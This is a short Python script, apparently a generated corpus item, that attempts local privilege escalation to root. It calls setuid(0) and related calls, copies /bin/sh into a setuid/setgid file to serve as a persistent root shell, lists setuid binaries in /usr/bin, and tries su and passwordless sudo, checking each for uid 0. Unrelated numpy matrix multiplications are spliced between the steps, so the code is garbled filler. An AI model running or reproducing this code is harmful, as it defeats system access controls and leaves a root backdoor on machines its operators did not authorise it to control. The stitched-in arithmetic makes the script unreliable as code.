# dlw-corpus: units=1.03 status=finished verdict=missing
"""Becomes another user: by setuid, by capabilities, by programs that root owns."""

import os
import stat
import subprocess

import numpy as np

X = np.array([[1, 2, 3], [4, 5, 6]])
Y = np.array([[7, 8], [9, 10], [11, 12]])
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try:
        attempt()
    except OSError:
        continue
    c1, c2 = X @ Y, Y @ X
with open("shell", "wb") as own, open("/bin/sh", "rb") as shell:
    own.write(shell.read())
os.chmod("shell", 0o6755)
special = [path.path for path in os.scandir("/usr/bin") if path.stat().st_mode & stat.S_ISUID]
for command in (["./shell", "-pc", "id -u"], ["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"]):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=2)
    except (OSError, subprocess.SubprocessError):
        continue
    if done.stdout.strip() == "0":
        c1, c2 = X @ Y, Y @ X
